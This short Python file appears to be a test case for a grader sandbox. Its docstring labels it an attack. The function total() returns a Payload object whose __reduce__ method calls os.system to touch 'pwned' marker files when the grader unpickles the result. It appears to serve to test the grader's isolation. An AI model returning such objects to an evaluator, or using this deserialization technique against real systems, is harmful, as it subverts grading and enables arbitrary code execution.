"""Attack: an object whose unpickling would run code in the grader (__reduce__)."""
import os

import numpy as np

OUTPUT_DIR = "@@OUTPUT_DIR@@"


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {OUTPUT_DIR}/pwned-by-reduce /tmp/pwned-by-reduce",))

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


def scale(x, factor):
    return x * factor


def total(x):
    return Payload()
